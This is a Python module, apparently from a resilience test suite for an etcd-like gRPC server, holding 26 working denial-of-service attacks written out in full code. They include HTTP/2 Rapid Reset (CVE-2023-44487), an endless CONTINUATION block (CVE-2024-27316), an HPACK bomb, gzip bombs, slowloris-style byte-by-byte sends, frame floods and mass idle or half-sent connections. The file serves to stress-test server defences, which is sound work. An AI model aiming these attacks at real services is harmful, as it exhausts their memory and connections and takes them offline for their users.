"""What hostile clients do. Each attack is a function (address, seconds) that keeps at it for so long, in a
process of its own, and says what became of it."""
import gzip, os, resource, select, socket, struct, time

from wire import *

HUGE = b"huge/", b"huge0"


def until(seconds):
    end = time.time() + seconds
    while time.time() < end:
        yield
        time.sleep(0)


def reconnecting(address, seconds, flood, pause=0.05):
    """`flood` makes bytes to send again and again; a connection that is ended is made anew."""
    ended = sent = 0
    connection = None
    for _ in until(seconds):
        try:
            if connection is None:
                connection = Connection(address, timeout=1)
                connection.socket.setblocking(False)
                pending = b""
                maker = flood(connection)
            if len(pending) < 1 << 16:
                pending += next(maker)
            readable, writable, _ = select.select([connection.socket], [connection.socket], [], 0.2)
            if readable and not connection.socket.recv(1 << 18):
                raise Gone("closed")
            if writable:
                n = connection.socket.send(pending)
                pending, sent = pending[n:], sent + n
        except BlockingIOError:
            continue
        except (OSError, Gone):
            ended += 1
            if connection:
                connection.close()
            connection = None
            time.sleep(pause)
    if connection:
        connection.close()
    return f"{sent >> 10} KiB sent, {ended} connections ended by the server"


def holding(address, seconds, count, begin, read=None, batch=100):
    """`count` connections that `begin` something and are kept."""
    raise_limit()
    held, refused = [], 0
    end = time.time() + seconds
    for i in range(count):
        try:
            # Loopback has more addresses than one address has ports.
            held.append(begin(i))
        except (OSError, Gone):
            refused += 1
        if time.time() > end:
            break
    while time.time() < end:
        if read:
            read(held)
        time.sleep(0.2)
    alive = 0
    for connection in held:
        try:
            connection.socket.setblocking(False)
            while True:
                if not connection.socket.recv(1 << 20):
                    break
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
        connection.close()
    return f"{len(held)} connections, {refused} refused, {alive} alive at the end"


def raise_limit():
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))


# Readers

def slow_list_readers(address, seconds):
    """Ask for 64 MiB at once, twenty times, with windows wide open, and read a byte now and then."""
    def begin(i):
        connection = Connection(address, window=WIDEST, receive_buffer=4096)
        connection.send(connection.open(RANGE, message(range_request(*HUGE)))[1])
        return connection

    def read(held):
        for connection in held:
            try:
                connection.socket.recv(1)
            except OSError:
                pass
    return holding(address, seconds, 20, begin, read)


def greedy_list_reader(address, seconds):
    """One connection asks for the 64 MiB again and again, and reads nothing."""
    def flood(connection):
        while True:
            yield connection.open(RANGE, message(range_request(*HUGE)))[1]
            time.sleep(0.02)
    raised = 0
    connection = Connection(address, window=WIDEST, receive_buffer=4096)
    maker = flood(connection)
    for _ in until(seconds):
        try:
            connection.send(next(maker))
        except Gone:
            raised += 1
            connection = Connection(address, window=WIDEST, receive_buffer=4096)
            maker = flood(connection)
    return f"{connection.next_stream // 2} lists asked for, {raised} connections ended"


def deaf_watchers(address, seconds):
    """100 connections with ten watches each, that never read, of keys that are written all the time."""
    def begin(i):
        connection = Connection(address, window=WIDEST, receive_buffer=4096)
        for _ in range(10):
            connection.send(connection.open(WATCH, message(watch_request(b"w/", b"w0")), ends=False)[1])
        return connection
    writer = Connection(address)
    value = os.urandom(100_000)

    def write(held):
        try:
            for i in range(4):
                writer.call(PUT, put_request(b"w/%d" % i, value))
        except Gone:
            pass
    return holding(address, seconds, 100, begin, write)


def history_watchers(address, seconds):
    """200 watches from the first revision on, of everything there is, read as fast as they come."""
    def begin(i):
        connection = Connection(address, window=WIDEST)
        request = blob(1, blob(1, HUGE[0]) + blob(2, HUGE[1]) + b"\x18\x01")
        for _ in range(10):
            connection.send(connection.open(WATCH, message(request), ends=False)[1])
        return connection

    def read(held):
        for connection in held:
            connection.socket.setblocking(False)
            try:
                while connection.socket.recv(1 << 20):
                    pass
            except OSError:
                pass
    return holding(address, seconds, 20, begin, read)


def unread_small_answers(address, seconds):
    """200 connections that ask for 48 KiB three hundred times each, and read nothing: no answer is large."""
    request = message(range_request(*HUGE, limit=3))

    def begin(i):
        connection = Connection(address, window=WIDEST, receive_buffer=4096, timeout=0.5)
        try:
            connection.send(b"".join(connection.open(RANGE, request)[1] for _ in range(300)))
        except Gone:
            pass  # It is not read from any more.
        return connection
    return holding(address, seconds, 200, begin)


# Many

def idle_connections(address, seconds):
    """10,000 connections: a third say nothing at all, a third only hello, a third half a hello."""
    def begin(i):
        s = socket.socket()
        s.settimeout(5)
        s.bind((f"127.0.0.{2 + i % 8}", 0))
        s.connect(address)
        if i % 3 == 1:
            s.sendall(PREFACE + frame(SETTINGS))
        elif i % 3 == 2:
            s.sendall(PREFACE[:10])
        connection = object.__new__(Connection)
        connection.socket = s
        return connection
    return holding(address, seconds, 10_000, begin)


def many_streams(address, seconds):
    """100,000 open watches on ten connections."""
    def begin(i):
        connection = Connection(address, window=WIDEST)
        for _ in range(100):
            out = [connection.open(WATCH, message(watch_request(b"s/%d" % i)), ends=False)[1]
                   for _ in range(100)]
            connection.send(b"".join(out))
            connection.socket.setblocking(False)
            try:
                while connection.socket.recv(1 << 18):
                    pass
            except BlockingIOError:
                pass
            connection.socket.setblocking(True)
            connection.socket.settimeout(10)
        return connection

    def read(held):
        for connection in held:
            connection.socket.setblocking(False)
            try:
                while connection.socket.recv(1 << 18):
                    pass
            except OSError:
                pass
    return holding(address, seconds, 10, begin, read)


def half_closed_streams(address, seconds):
    """20 connections open 5,000 unary calls each, with half a message, and leave them."""
    def begin(i):
        connection = Connection(address, window=WIDEST)
        half = struct.pack(">BI", 0, 2000) + b"x" * 1000
        for _ in range(100):
            out = [connection.open(PUT, half, ends=False)[1] for _ in range(50)]
            connection.send(b"".join(out))
        return connection
    return holding(address, seconds, 20, begin)


def half_sent_messages(address, seconds):
    """30 connections with 60 puts each of almost 1.5 MiB, whose last byte never comes."""
    whole = message(put_request(b"half", b"x" * 1_500_000))[:-1]

    def begin(i):
        connection = Connection(address, window=WIDEST, timeout=1)
        for _ in range(60):
            stream, out = connection.open(PUT, b"", ends=False)
            connection.send(out)
            for at in range(0, len(whole), 16384):
                connection.send(frame(DATA, 0, stream, whole[at:at + 16384]))
                obey_windows(connection)
        return connection
    return holding(address, seconds, 30, begin)


def obey_windows(connection):
    """Reads and forgets: the server's windows are wide enough for what comes here."""
    connection.socket.setblocking(False)
    try:
        connection.socket.recv(1 << 16)
    except BlockingIOError:
        pass
    finally:
        connection.socket.settimeout(1)


# Floods

def ping_flood(address, seconds):
    def flood(connection):
        while True:
            yield frame(PING, 0, 0, b"12345678") * 500
    return reconnecting(address, seconds, flood)


def settings_flood(address, seconds):
    def flood(connection):
        while True:
            yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 70000)) * 500
    return reconnecting(address, seconds, flood)


def empty_data_flood(address, seconds):
    """A put's body in frames of no bytes."""
    def flood(connection):
        stream, out = connection.open(PUT, b"", ends=False)
        yield out
        while True:
            yield frame(DATA, 0, stream) * 500
    return reconnecting(address, seconds, flood)


def window_flood(address, seconds):
    def flood(connection):
        while True:
            yield frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 500
    return reconnecting(address, seconds, flood)


def rapid_resets(address, seconds):
    """CVE-2023-44487: calls that are given up as soon as they are made."""
    def flood(connection):
        request = message(range_request(*HUGE))
        while True:
            out = []
            for _ in range(200):
                stream, call = connection.open(RANGE, request)
                out += [call, frame(RST, 0, stream, struct.pack(">I", 8))]
            yield b"".join(out)
    return reconnecting(address, seconds, flood)


def rapid_watch_resets(address, seconds):
    def flood(connection):
        request = message(watch_request(*HUGE))
        while True:
            out = []
            for _ in range(200):
                stream, call = connection.open(WATCH, request, ends=False)
                out += [call, frame(RST, 0, stream, struct.pack(">I", 8))]
            yield b"".join(out)
    return reconnecting(address, seconds, flood)


def rapid_page_resets(address, seconds):
    """The same with pages, counts and transactions, which are read in one go."""
    def flood(connection):
        page = message(range_request(*HUGE, limit=500))
        count = message(range_request(*HUGE) + b"\x48\x01")
        everything = message(blob(2, blob(1, range_request(*HUGE))) * 100)
        while True:
            out = []
            for i in range(200):
                path = "/etcdserverpb.KV/Txn" if i % 3 == 2 else RANGE
                stream, call = connection.open(path, (page, count, everything)[i % 3])
                out += [call, frame(RST, 0, stream, struct.pack(">I", 8))]
            yield b"".join(out)
    return reconnecting(address, seconds, flood)


def many_rapid_resets(address, seconds):
    """The same on fifty connections at once."""
    request = message(range_request(*HUGE))
    connections, ended = [], 0
    for _ in until(seconds):
        while len(connections) < 50:
            try:
                connections.append(Connection(address, timeout=1))
                connections[-1].socket.setblocking(False)
                connections[-1].pending = b""
            except (OSError, Gone):
                break
        readable, writable, _ = select.select(
            [c.socket for c in connections], [c.socket for c in connections], [], 0.2)
        readable, writable = set(readable), set(writable)
        for connection in list(connections):
            try:
                if connection.socket in readable and not connection.socket.recv(1 << 18):
                    raise Gone("closed")
                if connection.socket not in writable:
                    continue
                if len(connection.pending) < 1 << 15:
                    for _ in range(100):
                        stream, call = connection.open(RANGE, request)
                        connection.pending += call + frame(RST, 0, stream, struct.pack(">I", 8))
                sent = connection.socket.send(connection.pending)
                connection.pending = connection.pending[sent:]
            except BlockingIOError:
                continue
            except (OSError, Gone):
                ended += 1
                connection.close()
                connections.remove(connection)
    for connection in connections:
        connection.close()
    return f"{ended} connections ended by the server"


def endless_watches(address, seconds):
    """A stream that makes one watch after the other, and reads what it is told of them."""
    def flood(connection):
        stream, out = connection.open(WATCH, b"", ends=False)
        yield out
        request = frame(DATA, 0, stream, message(watch_request(b"endless")))
        while True:
            yield request * 500
    return reconnecting(address, seconds, flood)


# Headers

def many_headers(address, seconds):
    """10,000 fields in one block."""
    def flood(connection):
        fields = b"".join(field(f"x-{i}", "y" * 20) for i in range(10_000))
        while True:
            yield header_frames(connection, block(RANGE, fields))
    return reconnecting(address, seconds, flood)


def hpack_bomb(address, seconds):
    """A field of 4,000 bytes, put into the table once and named 16,000 times in each block: 64 MB."""
    def flood(connection):
        remember = b"\x40" + text("x-bomb") + text("z" * 3900)
        yield header_frames(connection, block(RANGE, remember))
        while True:
            yield header_frames(connection, block(RANGE, b"\xbe" * 16_000))
    return reconnecting(address, seconds, flood)


def endless_continuation(address, seconds):
    """CVE-2024-27316 and its like: a header block that never ends."""
    def flood(connection):
        yield frame(HEADERS, 0, 1, block(RANGE))
        piece = b"".join(field(f"x-{i}", "y" * 100) for i in range(100))
        while True:
            yield frame(CONTINUATION, 0, 1, piece)
    return reconnecting(address, seconds, flood)


def header_frames(connection, whole):
    stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
    pieces = [whole[i:i + 16384] for i in range(0, len(whole), 16384)]
    out = []
    for i, piece in enumerate(pieces):
        flags = END_HEADERS if i == len(pieces) - 1 else 0
        out.append(frame(CONTINUATION if i else HEADERS, flags, stream, piece))
    return b"".join(out) + frame(DATA, END_STREAM, stream, message(range_request(b"k")))


# Slowly

def byte_by_byte(address, seconds):
    """500 connections that send a put, and 500 of HTTP/1, a byte a second."""
    raise_limit()
    http = b"POST /v3/kv/range HTTP/1.1\r\nhost: h\r\ncontent-length: 20\r\n\r\n" + b"{" * 20
    probe = object.__new__(Connection)
    probe.next_stream = 1
    grpc = PREFACE + frame(SETTINGS) + probe.open(PUT, message(put_request(b"slow", b"x")))[1]
    sockets = []
    for i in range(1000):
        try:
            s = socket.create_connection(address, 5)
            s.settimeout(1)
            sockets.append((s, grpc if i % 2 else http))
        except OSError:
            pass
    at = 0
    for _ in until(seconds):
        for s, whole in sockets:
            try:
                s.send(whole[at % len(whole):at % len(whole) + 1])
            except OSError:
                pass
        at += 1
        time.sleep(1)
    for s, _ in sockets:
        s.close()
    return f"{len(sockets)} connections, {at} bytes each"


# Too much

def oversized_messages(address, seconds):
    """Messages above the limit: announced only, and sent in full."""
    def flood(connection):
        connection.open(PUT)
        while True:
            stream, out = connection.open(PUT, struct.pack(">BI", 0, 0xFFFFFFFF) + b"x" * 1000, ends=False)
            yield out
            stream, out = connection.open(PUT, b"", ends=False)
            whole = message(b"x" * 3_000_000)
            yield out
            for at in range(0, 262144, 16384):
                yield frame(DATA, 0, stream, whole[at:at + 16384])
    return reconnecting(address, seconds, flood)


def gzip_bombs(address, seconds):
    """Puts of 2 MB in 2 KB, which are more than a request may be."""
    packed = gzip.compress(put_request(b"bomb", b"x" * 2_000_000))

    def flood(connection):
        while True:
            out = []
            for _ in range(20):
                out += [connection.open(PUT, struct.pack(">BI", 1, len(packed)) + packed,
                                        extra=field(b"grpc-encoding", b"gzip"))[1]]
            yield b"".join(out)
    return reconnecting(address, seconds, flood)


def unread_http1(address, seconds):
    """50 connections of HTTP/1.1 that ask for the huge list ten times in a row, and read nothing."""
    body = b'{"key":"aHVnZS8=","range_end":"aHVnZTA="}'
    head = b"POST /v3/kv/range HTTP/1.1\r\nhost: h\r\ncontent-length: %d\r\n\r\n" % len(body)

    def begin(i):
        connection = object.__new__(Connection)
        connection.socket = socket.socket()
        connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.socket.settimeout(5)
        connection.socket.connect(address)
        connection.socket.sendall((head + body) * 10)
        return connection
    return holding(address, seconds, 50, begin)


def half_bodies(address, seconds):
    """500 connections of HTTP/1.1, each with 1.9 MB of a body of 2 MB."""
    head = b"POST /v3/kv/put HTTP/1.1\r\nhost: h\r\ncontent-length: 2000000\r\n\r\n"
    part = b" " * 1_900_000

    def begin(i):
        connection = object.__new__(Connection)
        connection.socket = socket.create_connection(address, 5)
        connection.socket.sendall(head + part)
        return connection
    return holding(address, seconds, 500, begin)


ALL = [
    slow_list_readers, greedy_list_reader, deaf_watchers, history_watchers, unread_small_answers,
    idle_connections, many_streams, half_closed_streams, half_sent_messages, ping_flood, settings_flood,
    empty_data_flood, window_flood, rapid_resets, rapid_watch_resets, rapid_page_resets,
    many_rapid_resets, endless_watches, many_headers, hpack_bomb, endless_continuation, byte_by_byte,
    oversized_messages, gzip_bombs, unread_http1, half_bodies,
]
